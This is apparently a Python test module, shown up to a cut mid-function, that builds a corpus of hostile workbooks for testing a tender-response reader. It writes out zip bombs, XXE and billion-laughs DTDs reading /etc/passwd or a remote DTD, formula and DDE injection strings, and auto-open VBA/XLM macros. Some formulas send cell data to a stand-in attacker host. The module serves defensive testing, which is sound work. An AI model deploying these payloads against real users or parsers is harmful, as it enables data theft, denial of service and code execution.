"""The hostile-input corpus: workbooks and YAML files crafted to break readers, each with the
clear message a reader must give for it.

``scripts/make_hostile_corpus.py DIR`` writes it to a folder; the tests import this module and
write it to a temporary one. Building is deterministic (fixed seeds, fixed zip times) and fast:
big payloads are never built in memory. A zip bomb's part is one deflate block repeated (a block
ending in a full flush can be copied any number of times), and some cases only *claim* sizes in
the zip's central directory.

Layout of the folder::

    workbooks/          one file per workbook case (read with open_workbook / check_container)
    rubrics/            rubric YAML (load_rubric)
    tenders/<case>/     a tender.yaml each (load_tender takes the folder)
    proxies/            proxy sets, YAML and CSV (load_proxy_set)
    filesystem/         a responses/ folder of odd names, symbolic links, a folder named
                        like a workbook, hidden files, OS junk, names that are twins once
                        case, Unicode normalisation and the extension are set aside... (what
                        check_tender meets besides file contents); names/: hostile response
                        file names (a newline, a formula, bidi overrides...)
    tender-paths/       tender folders whose rubric or proxy set is a device, a named pipe,
                        /etc/passwd, a secret above the folder, a 6 GB sparse file
    templates/          templates/ overrides that try to escape jinja's sandbox, or are links
    MANIFEST.json       every case: what it is and the problems expected, as data; also the
                        bidder cases (legal names, company numbers) to fill into responses

Each :class:`Case` lists *every* problem a reader reports for it (warnings included); an empty
list means the file is read cleanly. ``bug`` marks a case that exposes a known bug: the tests
run it as ``xfail(strict=True)`` until the bug is fixed.
"""

from __future__ import annotations

import base64
import io
import json
import os
import random
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import NamedTuple

from .folder_cases import write_folder_cases

MB = 1024 * 1024
SEED = 20260522

# ----------------------------------------------------------------------------- expectations


@dataclass(frozen=True)
class Expect:
    """One problem a reader must report: its message (exactly, or containing ``text``)."""

    text: str
    severity: str = "error"
    exact: bool = True
    cell: str | None = None  # "Sheet!A1" when the problem names a cell
    context: str | None = None  # e.g. "sheet Response"
    line: int | None = None  # YAML/CSV line

    def matches(self, problem: object) -> bool:
        """Does ``problem`` (a Problem, or its ``to_json()`` dict) report this?"""
        found = problem if isinstance(problem, dict) else _as_dict(problem)
        message = str(found.get("message") or "")
        if found.get("severity") != self.severity:
            return False
        if (message != self.text) if self.exact else (self.text not in message):
            return False
        return all(
            getattr(self, key) is None or found.get(key) == getattr(self, key)
            for key in ("cell", "context", "line")
        )

    def to_json(self) -> dict[str, object]:
        out: dict[str, object] = {"severity": self.severity, "message": self.text}
        if not self.exact:
            out["match"] = "contains"
        for key in ("cell", "context", "line"):
            if getattr(self, key) is not None:
                out[key] = getattr(self, key)
        return out


def _as_dict(problem: object) -> dict[str, object]:
    to_json = getattr(problem, "to_json", None)
    return to_json() if callable(to_json) else {}


def unmatched(expect: Sequence[Expect], problems: Sequence[object]) -> tuple[list, list]:
    """(expectations no problem meets, problems no expectation accounts for), pairing each
    problem with at most one expectation."""
    left = list(problems)
    missing = []
    for wanted in expect:
        hit = next((p for p in left if wanted.matches(p)), None)
        if hit is None:
            missing.append(wanted)
        else:
            left.remove(hit)
    return missing, left


def error(text: str, **kw: object) -> Expect:
    return Expect(text, "error", **kw)  # type: ignore[arg-type]


def warning(text: str, **kw: object) -> Expect:
    return Expect(text, "warning", **kw)  # type: ignore[arg-type]


def contains(text: str, severity: str = "error", **kw: object) -> Expect:
    return Expect(text, severity, exact=False, **kw)  # type: ignore[arg-type]


@dataclass(frozen=True)
class Case:
    """One corpus file and what reading it must give.

    ``kind``: ``workbook``, ``rubric``, ``tender`` or ``proxies``. For a workbook, ``fatal``
    says whether :func:`~socialvalue.workbook.open_workbook` raises :class:`InputError` (the
    file cannot be read at all) or returns the data with ``expect`` in ``.problems``. ``values``
    are cells that must read back exactly (``"Sheet!A1"`` -> raw value). ``heavy`` cases are
    run in a subprocess under a memory limit.
    """

    name: str
    kind: str
    about: str
    expect: tuple[Expect, ...]
    build: Callable[[], bytes] = field(repr=False, compare=False)
    fatal: bool = False
    heavy: bool = False
    bug: str | None = None
    values: dict[str, object] = field(default_factory=dict)

    @property
    def path(self) -> str:
        """Where the file goes, relative to the corpus folder."""
        if self.kind == "tender":
            return f"tenders/{self.name}/tender.yaml"
        return f"{self.kind}s/{self.name}" if self.kind != "proxies" else f"proxies/{self.name}"

    def to_json(self) -> dict[str, object]:
        out: dict[str, object] = {
            "file": self.path,
            "kind": self.kind,
            "about": self.about,
            "fatal": self.fatal,
            "expect": [e.to_json() for e in self.expect],
        }
        if self.heavy:
            out["heavy"] = True
        if self.bug:
            out["known_bug"] = self.bug
        return out


# ----------------------------------------------------------------------------- zip writing


class Repeat(NamedTuple):
    """``chunk`` repeated ``times`` in a deflate stream, compressed once."""

    chunk: bytes
    times: int


def deflate(pieces: Iterable[bytes | Repeat], level: int = 6) -> tuple[bytes, int, int]:
    """Deflate ``pieces`` into one raw stream: (compressed bytes, size, CRC-32).

    A :class:`Repeat` is compressed once between two full flushes (which reset the dictionary),
    so its compressed block stands alone and is copied ``times`` times: 300 MB of XML costs a
    few kilobytes and a CRC pass.
    """
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    out: list[bytes] = []
    size = crc = 0
    for piece in pieces:
        if isinstance(piece, Repeat):
            out.append(compressor.flush(zlib.Z_FULL_FLUSH))
            block = compressor.compress(piece.chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
            out.append(block * piece.times)
            for _ in range(piece.times):
                crc = zlib.crc32(piece.chunk, crc)
            size += len(piece.chunk) * piece.times
        else:
            out.append(compressor.compress(piece))
            crc = zlib.crc32(piece, crc)
            size += len(piece)
    out.append(compressor.flush())
    return b"".join(out), size, crc


@dataclass
class Entry:
    """One zip entry, written by hand so the directory can say what a test wants it to say."""

    name: str
    data: bytes = b""
    stream: tuple[bytes, int, int] | None = None  # (deflated, size, crc) from deflate()
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    claim_size: int | None = None  # declared uncompressed size (a lie when set)
    claim_compressed: int | None = None  # declared compressed size, central directory only
    zip64_size: int | None = None  # declared through a zip64 extra field
    alias_of: str | None = None  # no data of its own: the directory points at that entry's


DOS_DATE = 0x21  # 1980-01-01
LOCAL = struct.Struct("<4s5H3L2H")
CENTRAL = struct.Struct("<4s6H3L5H2L")
END = struct.Struct("<4s4H2LH")


def make_zip(entries: Sequence[Entry], prefix: bytes = b"") -> bytes:
    out = io.BytesIO()
    out.write(prefix)
    central: list[bytes] = []
    offsets: dict[str, int] = {}
    for entry in entries:
        name = entry.name.encode()
        if entry.stream is not None:
            compressed, size, crc = entry.stream
        elif entry.method == zipfile.ZIP_STORED:
            compressed, size, crc = entry.data, len(entry.data), zlib.crc32(entry.data)
        else:
            compressed, size, crc = deflate([entry.data])
        declared = entry.claim_size if entry.claim_size is not None else size
        size32 = min(declared, 0xFFFFFFFF)
        if entry.alias_of is not None:
            offset = offsets[entry.alias_of]
        else:
            offset = out.tell()
            offsets.setdefault(entry.name, offset)
            local = (b"PK\x03\x04", 20, entry.flags, entry.method, 0, DOS_DATE, crc)
            out.write(LOCAL.pack(*local, len(compressed), size32, len(name), 0) + name + compressed)
        extra = b""
        if entry.zip64_size is not None:
            extra, size32 = struct.pack("<HHQ", 1, 8, entry.zip64_size), 0xFFFFFFFF
        head = (b"PK\x01\x02", 0x0314, 45 if extra else 20, entry.flags, entry.method, 0)
        sizes = (DOS_DATE, crc, entry.claim_compressed or len(compressed), size32)
        tail = (len(name), len(extra), 0, 0, 0, 0o644 << 16, offset)
        central.append(CENTRAL.pack(*head, *sizes, *tail) + name + extra)
    start = out.tell()
    for record in central:
        out.write(record)
    size = out.tell() - start
    count = min(len(central), 0xFFFF)
    out.write(END.pack(b"PK\x05\x06", 0, 0, count, count, size, start, 0))
    return out.getvalue()


# ----------------------------------------------------------------------------- xlsx parts

XML_DECL = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = b"http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
WORKBOOK = "xl/workbook.xml"
WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
CONTENT_TYPES = "[Content_Types].xml"
CT_MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_MACRO = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
REL_TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def esc(text: str) -> bytes:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    ).encode()


def sheet_xml(rows: bytes, head: bytes = XML_DECL) -> bytes:
    return (
        head
        + b'<worksheet xmlns="'
        + MAIN_NS
        + b'"><sheetData>'
        + rows
        + b"</sheetData></worksheet>"
    )


def strings_xml(strings: Iterable[str]) -> bytes:
    items = b"".join(b'<si><t xml:space="preserve">' + esc(s) + b"</t></si>" for s in strings)
    return XML_DECL + b'<sst xmlns="' + MAIN_NS + b'">' + items + b"</sst>"


def text_row(row: int, texts: Sequence[str], first_index: int = 0) -> bytes:
    """A row of shared-string cells A, B, C... pointing at strings from ``first_index``."""
    cells = b"".join(
        b'<c r="%s%d" t="s"><v>%d</v></c>' % (_col(i).encode(), row, first_index + i)
        for i in range(len(texts))
    )
    return b'<row r="%d">%s</row>' % (row, cells)


def _col(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def xlsx_parts(
    sheets: Sequence[tuple[str, bytes]] = (),
    strings: Sequence[str] | None = None,
    *,
    macro: bool = False,
    defined_names: bytes = b"",
    extra: Sequence[tuple[str, bytes, bytes | None]] = (),
    extra_rels: bytes = b"",
) -> dict[str, bytes]:
    """The parts of a minimal workbook as Excel writes it: (part name -> bytes), in zip order.

    ``sheets`` are (name, worksheet XML); ``strings`` the shared strings. ``extra`` adds parts
    as (name, bytes, content type or None).
    """
    if not sheets:
        sheets = [("Response", sheet_xml(text_row(1, ["Name", "Acme Ltd"])))]
        strings = ["Name", "Acme Ltd"] if strings is None else strings
    overrides = [(b"/" + WORKBOOK.encode(), CT_MACRO if macro else CT_MAIN)]
    sheet_entries, rels = [], []
    for i, (name, _) in enumerate(sheets, start=1):
        overrides.append(
            (
                b"/xl/worksheets/sheet%d.xml" % i,
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            )
        )
        sheet_entries.append(b'<sheet name="%s" sheetId="%d" r:id="rId%d"/>' % (esc(name), i, i))
        rels.append(
            b'<Relationship Id="rId%d" Type="%sworksheet" Target="worksheets/sheet%d.xml"/>'
            % (i, REL_TYPE, i)
        )
    if strings is not None:
        overrides.append(
            (
                b"/" + STRINGS.encode(),
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
            )
        )
        rels.append(
            b'<Relationship Id="rIdS" Type="%ssharedStrings" Target="sharedStrings.xml"/>'
            % REL_TYPE
        )
    for name, _, content_type in extra:
        if content_type:
            overrides.append((b"/" + name.encode(), content_type))
    content_types = (
        XML_DECL
        + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
        + b'.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        + b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        + b"".join(b'<Override PartName="%s" ContentType="%s"/>' % o for o in overrides)
        + b"</Types>"
    )
    parts = {
        CONTENT_TYPES: content_types,
        "_rels/.rels": XML_DECL
        + b'<Relationships xmlns="'
        + PKG_REL_NS
        + b'"><Relationship Id="rId1" Type="'
        + REL_TYPE
        + b'officeDocument" Target="xl/workbook.xml"/></Relationships>',
        WORKBOOK: XML_DECL
        + b'<workbook xmlns="'
        + MAIN_NS
        + b'" xmlns:r="'
        + REL_NS
        + b'"><sheets>'
        + b"".join(sheet_entries)
        + b"</sheets>"
        + (b"<definedNames>" + defined_names + b"</definedNames>" if defined_names else b"")
        + b"</workbook>",
        WORKBOOK_RELS: XML_DECL
        + b'<Relationships xmlns="'
        + PKG_REL_NS
        + b'">'
        + b"".join(rels)
        + extra_rels
        + b"</Relationships>",
    }
    for i, (_, xml) in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    if strings is not None:
        parts[STRINGS] = strings_xml(strings)
    for name, data, _ in extra:
        parts[name] = data
    return parts


def xlsx(parts: dict[str, bytes] | None = None, special: dict[str, Entry] | None = None) -> bytes:
    """Zip the parts (a minimal workbook by default); ``special`` replaces entries by part name
    (or adds them at the end)."""
    parts = xlsx_parts() if parts is None else parts
    special = dict(special or {})
    entries = [special.pop(name, None) or Entry(name, data) for name, data in parts.items()]
    return make_zip(entries + list(special.values()))


def replace_part(parts: dict[str, bytes], name: str, data: bytes) -> dict[str, bytes]:
    out = dict(parts)
    out[name] = data
    return out


def noise(size: int, seed: int) -> bytes:
    """``size`` bytes of deterministic base64 text: incompressible enough to keep a part's
    compression ratio low, and safe inside an XML comment or text node."""
    return base64.b64encode(random.Random(seed).randbytes(size * 3 // 4 + 3))[:size]


def padded(head: bytes, repeat: Repeat, tail: bytes, *, ratio: int = 60) -> tuple[bytes, int, int]:
    """``head`` + an XML comment of noise + ``repeat`` + ``tail``, deflated, with enough noise
    that the whole part's compression ratio stays near ``ratio``:1 (under the 100:1 limit)."""
    total = len(head) + len(tail) + len(repeat.chunk) * repeat.times
    comment = b"<!--" + noise(total // ratio, SEED) + b"-->"
    stream = deflate([head, comment, repeat, tail], level=1)
    assert stream[1] / len(stream[0]) < 100, "padding too small: the part would be refused"
    return stream


# ----------------------------------------------------------------------------- messages

MSG_CORRUPT = (
    "the workbook is damaged or incomplete (not a readable .xlsx/zip file): "
    "save it again from Excel and resend it"
)
MSG_TEXT = (
    "this is a text/CSV file, not an .xlsx workbook: "
    "open it in Excel and save it as an Excel Workbook (.xlsx)"
)
MSG_PDF = "this is a PDF, not a workbook: send the .xlsx response workbook"
MSG_MARKUP = (
    "this is a web page or XML text file, not an .xlsx workbook: "
    "open it in Excel and save it as an Excel Workbook (.xlsx)"
)
MSG_UNKNOWN = "this is not an Excel workbook (.xlsx): the file type is not recognised"
MSG_OLE2 = (
    "this is a password-protected (encrypted) workbook or an old-style .xls file: "
    "save it unencrypted as an Excel Workbook (.xlsx)"
)
MSG_ODS = (
    "this is an OpenDocument spreadsheet (.ods), not an .xlsx workbook: "
    "save it as an Excel Workbook (.xlsx)"
)
MSG_MACROS = "the workbook contains macros (VBA); they are ignored and never run"
MSG_LINKS = (
    "the workbook links to other files (external links); the links are ignored "
    "and only the values saved in this file are read"
)


def dtd_message(part: str) -> str:
    return (
        f"part {part} contains a DTD or entity declarations (<!DOCTYPE or <!ENTITY), "
        "which Excel never writes: refused as a possible XML entity attack"
    )


def ratio_message(part: str, size: int, compressed: int) -> str:
    return (
        f"part {part} expands {size / max(compressed, 1):,.0f}:1 (to {size / MB:,.0f} MB), "
        "more than the 100:1 allowed for parts over 1 MB: it may be a zip bomb"
    )


GRID_BUDGET = "4,000,000 cells counted from A1 to each sheet's last used row and column"
TEXT_BUDGET = "50,000,000 characters of text (a shared text counts each time a cell uses it)"


def budget(sheet: str, what: str) -> Expect:
    """A sheet refused because it would take the workbook past one of its budgets."""
    advice = {
        "2,000,000 XML elements": ": delete what is not needed and save again from Excel; the "
        "sheet was not read",
        "250,000 cells holding something": ": delete what is not needed (or split the workbook) "
        "and save again; the sheet was not read",
        GRID_BUDGET: ": delete unused rows and columns and save again; the sheet was not read",
        TEXT_BUDGET: "; the sheet was not read",
    }[what]
    message = f"the sheet takes the workbook past {what}, the most that are read{advice}"
    return error(message, context=f"sheet {sheet}")


def part_budget_size(part: str, limit: str) -> Expect:
    return contains(f"part {part} is larger than the {limit} allowed for it (")


def part_budget_count(part: str, what: str) -> str:
    return (
        f"part {part} has more than {what}, the most that are read: the workbook may be "
        "crafted; it was not read"
    )


def not_utf8_sheet(why: str, sheet: str = "Response") -> Expect:
    return error(
        f"the sheet is damaged: it {why}, but workbook parts must be UTF-8; it was not read",
        context=f"sheet {sheet}",
    )


def not_utf8_part(part: str, why: str) -> str:
    return (
        f"part {part} {why}, but workbook parts must be UTF-8 (as Excel writes them): the "
        "workbook is damaged or crafted"
    )


def too_far(sheet: str, ref: str) -> Expect:
    return error(
        f"the sheet has something in {ref}, beyond the 20,000 rows and 200 columns that can be "
        "read: delete what is there (or the unused rows and columns) and save again; the sheet "
        "was not read",
        cell=f"{sheet}!{ref}",
    )


# ----------------------------------------------------------------------------- payloads

FORMULA_INJECTION = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",  # full-width equals sign
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)
HTML_PAYLOADS = (
    "<script>alert('x')</script>",
    '<img src="file:///etc/passwd" onerror="alert(1)">',
    '<link rel="stylesheet" href="http://attacker.invalid/x.css">',
    "</style><style>@import url(http://attacker.invalid/x.css);</style>",
    "<style>body { background: url(file:///etc/passwd) }</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="http://attacker.invalid/"></iframe>',
    "{{ 7*7 }} {% for x in range(9999999) %}{% endfor %} ${7*7}",
    '<!--#include file="/etc/passwd" -->',
    "&lt;b&gt;already escaped&lt;/b&gt; &amp; <b>bold</b>",
)
ODD_UNICODE = (
    "Acme \u202egnp.exe\u202c Ltd",  # right-to-left override
    "Zero\u200bwidth\u200c\u200djoiner\ufeff",
    "Z\u0337\u0322a\u0334\u0327l\u0338g\u0335o\u0336 \u0301\u0302\u0303",  # combining marks
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e0065"
    "\U000e006e\U000e0067\U000e007f \u2764\ufe0f",  # emoji ZWJ sequence and tag flag
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u202bembedded\u202c",
    "\ufdfd \ua9c5 \U00012000 \u0f00",  # long glyphs
    "NBSP\u00a0and\u2028line\u2029separators",
)
ODD_SHEET_NAMES = (
    "Resp\u202eesno",
    "\u200bZero",
    "\U0001f4ca Data \U0001f469\u200d\U0001f467",
    "Z\u0337\u0322a\u0334l\u0338g\u0335o",
)

# ----------------------------------------------------------------------------- workbook builders


def _sheet_with(rows: bytes, strings: Sequence[str] | None = None) -> dict[str, bytes]:
    return xlsx_parts([("Response", sheet_xml(rows))], strings if strings is not None else [])


def billion_laughs(root: bytes) -> bytes:
    declarations = [b'<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        declarations.append(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10))
    return XML_DECL + b"<!DOCTYPE lolz [" + b"".join(declarations) + b"]>\n" + root


def _laughs_in(part: str) -> bytes:
    parts = xlsx_parts()
    body = parts[part].split(b"?>\n", 1)[1]
    body = body.replace(b"Acme Ltd", b"&lol9;", 1) if part != WORKBOOK else body
    return xlsx(replace_part(parts, part, billion_laughs(body)))


def _xxe(part: str, doctype: bytes) -> bytes:
    parts = xlsx_parts()
    body = parts[part].split(b"?>\n", 1)[1]
    if part in (SHEET, STRINGS):
        body = body.replace(b"Acme Ltd", b"&xxe;", 1)
    return xlsx(replace_part(parts, part, XML_DECL + doctype + body))


XXE_FILE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_PARAMETER = (
    b'<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>'
)


def _bomb_sheet() -> bytes:
    head = XML_DECL + b'<worksheet xmlns="' + MAIN_NS + b'"><sheetData>'
    stream = deflate([head, Repeat(b" " * MB, 300), b"</sheetData></worksheet>"])
    return xlsx(special={SHEET: Entry(SHEET, stream=stream)})


def _bomb_strings() -> bytes:
    item = b"<si><t>lol</t></si>" * 4096
    head = XML_DECL + b'<sst xmlns="' + MAIN_NS + b'">'
    stream = deflate([head, Repeat(item, 300 * MB // len(item)), b"</sst>"])
    parts = _sheet_with(text_row(1, ["lol"]), ["lol"])
    return xlsx(parts, special={STRINGS: Entry(STRINGS, stream=stream)})


def _bomb_claims() -> bytes:
    # Three parts of about 1 KB each whose directory entries claim 90 MB (at 90:1): nothing is
    # inflated, the sizes alone add up past the limit.
    entries = [
        Entry(f"xl/media/image{i}.png", noise(1000, i), claim_size=90 * MB, claim_compressed=MB)
        for i in range(1, 4)
    ]
    return make_zip([Entry(k, v) for k, v in xlsx_parts().items()] + entries)


def _bomb_zip64() -> bytes:
    return xlsx(special={SHEET: Entry(SHEET, xlsx_parts()[SHEET], zip64_size=1 << 40)})


def _many_parts() -> bytes:
    extra = [Entry(f"xl/media/p{i:05d}.bin", b"", method=zipfile.ZIP_STORED) for i in range(10_001)]
    return make_zip([Entry(k, v) for k, v in xlsx_parts().items()] + extra)


def _overlapping() -> bytes:
    # A second directory entry pointing at the sheet's data (the "better zip bomb" trick):
    # its name does not match the local header it points at.
    return make_zip(
        [Entry(k, v) for k, v in xlsx_parts().items()]
        + [Entry("xl/media/overlap.bin", alias_of=SHEET)]
    )


def _lying_size() -> bytes:
    stream = deflate([XML_DECL, Repeat(b" " * 65536, 40), xlsx_parts()[SHEET][len(XML_DECL) :]])
    return xlsx(special={SHEET: Entry(SHEET, stream=stream, claim_size=1000)})


def _duplicate_part() -> bytes:
    parts = xlsx_parts()
    evil = sheet_xml(text_row(1, ["Name", "Evil Ltd"]))
    return make_zip([Entry(k, v) for k, v in parts.items()] + [Entry(SHEET, evil)])


def _zip_encrypted() -> bytes:
    return xlsx(special={SHEET: Entry(SHEET, xlsx_parts()[SHEET], flags=1)})


def _lzma() -> bytes:
    return xlsx(special={SHEET: Entry(SHEET, xlsx_parts()[SHEET], method=14)})


def _truncated() -> bytes:
    whole = xlsx()
    return whole[: len(whole) // 2]


def _damaged_part() -> bytes:
    whole = bytearray(xlsx())
    at = whole.index(b"xl/worksheets/sheet1.xml") + len(b"xl/worksheets/sheet1.xml") + 20
    whole[at] ^= 0xFF
    return bytes(whole)


def _ole2() -> bytes:
    """An encrypted-workbook container (OLE2 compound file) as Excel writes it: a CFB header and
    a directory naming the EncryptionInfo and EncryptedPackage streams."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)  # minor, major, byte order, 512
    struct.pack_into("<H", header, 32, 6)  # mini sector shift
    struct.pack_into("<LLLL", header, 44, 1, 1, 0, 0x1000)  # FAT sectors, first dir sector...
    struct.pack_into("<LLLL", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<L", header, 76, 0)  # DIFAT[0]: the FAT is sector 0
    header[80:512] = b"\xff" * 432
    fat = struct.pack("<4L", 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE, 0xFFFFFFFE) + b"\xff" * 496
    directory = b""
    for name, kind in (
        ("Root Entry", 5),
        ("EncryptionInfo", 2),
        ("EncryptedPackage", 2),
        ("\x06DataSpaces", 1),
    ):
        encoded = (name + "\0").encode("utf-16-le")
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 64, len(encoded), kind, 1)
        struct.pack_into("<lll", entry, 68, -1, -1, -1)
        directory += bytes(entry)
    package = random.Random(SEED).randbytes(4096)
    return bytes(header) + fat + directory + package


def _renamed_pdf() -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
        b"\nendobj\n3 0 obj\n<< /S /JavaScript /JS (app.alert\\('x'\\)) >>\nendobj\ntrailer\n"
        b"<< /Root 1 0 R >>\n%%EOF\n"
    )


def _polyglot() -> bytes:
    return _renamed_pdf() + xlsx()


def _renamed_csv() -> bytes:
    return (
        b"Bidder,Measure,Quantity\r\nAcme Ltd,M1,3\r\n"
        b'"=cmd|\' /C calc\'!A0",M2,"=HYPERLINK(""http://attacker.invalid"")"\r\n'
    )


def _renamed_csv_utf16() -> bytes:
    return "Bidder,Measure,Quantity\r\nAcme Ltd,M1,3\r\n".encode("utf-16")


def _renamed_html() -> bytes:
    return b"<html><body><script>alert(1)</script><table><tr><td>3</td></tr></table></body></html>"


def _renamed_exe() -> bytes:
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48)
    return make_zip([Entry(k, v) for k, v in xlsx_parts().items()], prefix=stub)


def _ods() -> bytes:
    mimetype = Entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0)
    return make_zip([mimetype, Entry("content.xml", b"<office:document-content/>")])


def _docx() -> bytes:
    return make_zip(
        [Entry(CONTENT_TYPES, xlsx_parts()[CONTENT_TYPES]), Entry("word/document.xml", b"<w/>")]
    )


def _not_workbook_zip() -> bytes:
    return make_zip([Entry(CONTENT_TYPES, xlsx_parts()[CONTENT_TYPES]), Entry("x.txt", b"hi")])


def _long_prolog() -> bytes:
    parts = xlsx_parts()
    body = parts[SHEET].split(b"?>\n", 1)[1]
    comment = b"<!--" + b"x" * (70 * 1024) + b"-->"
    evil = XML_DECL + comment + XXE_FILE + body
    return xlsx(replace_part(parts, SHEET, evil))


def _utf16_dtd() -> bytes:
    parts = xlsx_parts()
    text = (XML_DECL + XXE_FILE + parts[SHEET].split(b"?>\n", 1)[1]).decode()
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return xlsx(replace_part(parts, SHEET, text.encode("utf-16")))


def _damaged_workbook_xml() -> bytes:
    return xlsx(replace_part(xlsx_parts(), WORKBOOK, b"\x00\x01 not xml <<<"))


def _no_sheets() -> bytes:
    parts = xlsx_parts()
    wb = parts[WORKBOOK].replace(b'<sheet name="Response" sheetId="1" r:id="rId1"/>', b"")
    return xlsx(replace_part(parts, WORKBOOK, wb))


def _duplicate_sheet_names() -> bytes:
    parts = xlsx_parts()
    wb = parts[WORKBOOK].replace(
        b"</sheets>", b'<sheet name="RESPONSE" sheetId="2" r:id="rId1"/></sheets>'
    )
    return xlsx(replace_part(parts, WORKBOOK, wb))


def _macros() -> bytes:
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b'Attribute VB_Name = "ThisWorkbook"\r\n'
        + (b'Sub Workbook_Open()\r\n  Shell "cmd /C calc"\r\nEnd Sub\r\n')
    )
    parts = xlsx_parts(
        macro=True,
        extra=[("xl/vbaProject.bin", vba, b"application/vnd.ms-office.vbaProject")],
        extra_rels=b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
        b'relationships/vbaProject" Target="vbaProject.bin"/>',
    )
    return xlsx(parts)


def _xlm_macrosheet() -> bytes:
    macro = (
        XML_DECL + b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        b'xmlns="' + MAIN_NS + b'"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c>'
        b'</row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'
    )
    parts = xlsx_parts(
        defined_names=b'<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>',
        extra=[("xl/macrosheets/sheet1.xml", macro, b"application/vnd.ms-excel.macrosheet+xml")],
        extra_rels=b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/'
        b'relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>',
    )
    parts[WORKBOOK] = parts[WORKBOOK].replace(
        b"</sheets>", b'<sheet name="Macro1" sheetId="9" state="veryHidden" r:id="rIdM"/></sheets>'
    )
    return xlsx(parts)


def _external_links() -> bytes:
    link = (
        XML_DECL + b'<externalLink xmlns="' + MAIN_NS + b'" xmlns:r="' + REL_NS + b'">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Secret"/></sheetNames>'
        b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
        b"</sheetData></sheetDataSet></externalBook></externalLink>"
    )
    link_rels = (
        XML_DECL + b'<Relationships xmlns="' + PKG_REL_NS + b'"><Relationship Id="rId1" '
        b'Type="' + REL_TYPE + b'externalLinkPath" Target="file:///\\\\attacker.invalid\\share\\'
        b'secret.xlsx" TargetMode="External"/></Relationships>'
    )
    rows = (
        text_row(1, ["Quantity"])[:-6]
        + b'<c r="B1"><f>[1]Secret!$A$1</f><v>42</v></c>'
        + b'<c r="C1"><f>WEBSERVICE("http://attacker.invalid/?"&amp;A1)</f><v>0</v></c></row>'
    )
    parts = xlsx_parts(
        [("Response", sheet_xml(rows))],
        ["Quantity"],
        extra=[
            (
                "xl/externalLinks/externalLink1.xml",
                link,
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            ),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels, None),
        ],
        extra_rels=b'<Relationship Id="rIdX" Type="' + REL_TYPE + b'externalLink" '
        b'Target="externalLinks/externalLink1.xml"/>',
    )
    return xlsx(parts)


def _dde() -> bytes:
    rows = (
        b'<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>'
        b'<c r="B1"><f>DDE("cmd","/C calc","x")</f><v>7</v></c>'
